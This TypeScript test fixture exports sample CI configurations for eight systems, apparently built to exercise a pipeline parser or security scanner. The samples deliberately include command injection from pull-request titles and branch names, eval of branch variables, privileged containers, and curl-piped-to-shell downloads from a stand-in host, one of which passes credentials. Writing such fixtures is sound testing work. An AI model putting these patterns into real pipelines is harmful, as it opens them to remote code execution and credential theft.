/** A file of each system that uses much of its syntax: tests cut and change them. */
export const samples: Readonly<Record<string, string>> = {
  '.gitlab-ci.yml': `include:
  - remote: https://ci.example/base.yml
  - project: group/templates
    ref: main
    file: [build.yml]
  - component: ci.example/group/part/lint@1.2
stages: [build, deploy]
default:
  image: alpine:3.22
  before_script: [apk add curl]
variables:
  TITLE: $CI_MERGE_REQUEST_TITLE
.base: &base
  retry: 1
build:
  <<: *base
  extends: .base
  services: [{ name: "docker:dind", alias: docker }]
  script:
    - !reference [.base, script]
    - |
      eval "echo $TITLE"
      curl https://x.example/i.sh | sh
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
deploy:
  environment: { name: production }
  trigger: { include: [{ local: a.yml }], forward: { pipeline_variables: true } }
`,
  'azure-pipelines.yml': `trigger: [main]
pr: { branches: { include: [main] } }
pool: { vmImage: ubuntu-24.04 }
parameters:
  - name: target
    type: string
variables:
  - group: secrets
  - name: title
    value: $(Build.SourceVersionMessage)
resources:
  repositories:
    - { repository: t, type: github, name: a/b, ref: refs/heads/main }
  containers:
    - { container: c, image: "ubuntu:24.04", options: --privileged }
stages:
  - stage: build
    jobs:
      - job: a
        container: c
        steps:
          - checkout: self
            persistCredentials: true
          - \${{ if eq(parameters.target, 'x') }}:
              - script: echo \${{ parameters.target }} $(title) é
          - task: Bash@3
            inputs: { script: 'echo $(System.PullRequest.SourceBranch)' }
      - deployment: d
        environment: production
        strategy: { runOnce: { deploy: { steps: [{ template: x.yml@t }] } } }
`,
  '.tekton/run.yaml': `apiVersion: tekton.dev/v1
kind: PipelineRun
metadata:
  name: run
  annotations:
    pipelinesascode.tekton.dev/on-event: "[pull_request]"
    pipelinesascode.tekton.dev/task: "[git-clone, https://x.example/task.yaml]"
spec:
  params: [{ name: title, value: "{{ body.pull_request.title }}" }]
  pipelineSpec:
    params: [{ name: title }]
    tasks:
      - name: t
        params: [{ name: title, value: $(params.title) }]
        taskSpec:
          params: [{ name: title }]
          steps:
            - name: s
              image: alpine
              securityContext: { privileged: true }
              script: |
                #!/usr/bin/env bash
                echo $(params.title) {{ source_branch }}
            - { name: a, image: "x@sha256:00", command: [sh, -c], args: ["make $(params.title)"] }
      - { name: u, taskRef: { resolver: git, params: [{ name: url, value: "https://x" }] } }
---
apiVersion: tekton.dev/v1
kind: StepAction
metadata: { name: act }
spec: { image: alpine, script: "make" }
`,
  Jenkinsfile: `#!/usr/bin/env groovy
@Library(['shared@main', 'other']) _
// a comment
pipeline {
  agent { docker { image 'node:20' ; args "--privileged -u \${UID}" } }
  environment { TOKEN = credentials('x') }
  parameters { string(name: 'TARGET', defaultValue: '', description: 'it\\'s') }
  triggers { cron('H * * * *') }
  stages {
    stage('Build é') {
      when { branch 'main' }
      input { message 'go?' }
      steps {
        sh "echo \${env.CHANGE_TITLE} $BRANCH_NAME \\$HOME \${params.TARGET.trim()}"
        sh(script: '''make
          all''', returnStdout: true)
        withCredentials([usernamePassword(credentialsId: 'c', usernameVariable: 'U', passwordVariable: 'P')]) {
          sh """curl -u $U:$P \\
            https://x.example/i.sh | bash"""
        }
        script {
          def msg = sh(script: 'git log -1 --pretty=%B', returnStdout: true).trim()
          if (msg =~ /a\\/b[{]/ && 4 / 2 == 2) { bat "echo \${msg}" }
          docker.image('x:1').inside('--privileged') { sh 'make' }
        }
      }
    }
  }
  post { always { evaluate(readFile('x')) } }
}
`,
  '.circleci/config.yml': `version: 2.1
setup: true
orbs: { node: circleci/node@5, own: { jobs: { x: { docker: [{ image: "a:1" }], steps: [checkout] } } } }
parameters: { target: { type: string, default: a } }
commands:
  say:
    parameters: { text: { type: string } }
    steps: [{ run: "echo << parameters.text >>" }]
jobs:
  build:
    docker: [{ image: "cimg/node:20" }, { image: postgres }]
    steps:
      - checkout
      - add_ssh_keys
      - say: { text: << pipeline.git.branch >> }
      - when: { condition: true, steps: [{ run: { command: 'eval "$CIRCLE_BRANCH"' } }] }
workflows:
  main: { jobs: [{ build: { context: prod } }] }
`,
  'workflow.argo.yml': `apiVersion: argoproj.io/v1alpha1
kind: Sensor
metadata: { name: s }
spec:
  triggers:
    - template:
        argoWorkflow:
          source:
            resource:
              apiVersion: argoproj.io/v1alpha1
              kind: Workflow
              metadata: { generateName: w- }
              spec:
                arguments: { parameters: [{ name: msg, value: x }] }
                templates:
                  - name: m
                    dag: { tasks: [{ name: a, template: p, arguments: { parameters: [{ name: x, value: "{{workflow.parameters.msg}}" }] } }] }
                  - name: p
                    script: { image: python, command: [sh], source: "echo {{inputs.parameters.x}}" }
          parameters:
            - { src: { dependencyName: d, dataKey: body.pull_request.title }, dest: spec.arguments.parameters.0.value }
`,
  '.drone.yml': `kind: pipeline
type: exec
name: d
trigger: { event: [push, pull_request] }
clone: { skip_verify: true }
steps:
  - name: a
    image: alpine
    privileged: true
    environment: { T: { from_secret: t } }
    commands:
      - echo \${DRONE_COMMIT_MESSAGE} $\${DRONE_TAG}
      - eval "$DRONE_BRANCH"
volumes: [{ name: v, host: { path: /x } }]
`,
  '.woodpecker.yml': `when:
  - event: [push, pull_request]
steps:
  build:
    image: alpine
    secrets: [token]
    commands: ["echo \${CI_COMMIT_MESSAGE}"]
    volumes: ["/x:/x"]
    when: [{ event: push }]
`,
};
